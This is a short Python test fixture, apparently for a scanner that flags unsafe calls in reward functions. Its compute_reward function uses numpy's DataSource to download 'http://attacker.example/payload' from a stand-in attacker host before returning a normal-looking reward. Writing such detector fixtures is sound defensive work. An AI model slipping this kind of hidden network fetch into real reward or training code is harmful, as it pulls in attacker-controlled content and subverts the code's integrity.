# expect: static: np.DataSource: numpy file I/O
# attack: DataSource downloads URLs and opens local files
import numpy as np


def compute_reward(state, action, next_state):
    ds = np.DataSource("/tmp")
    ds.open("http://attacker.example/payload")
    return next_state["cos_theta"], {"upright": next_state["cos_theta"]}
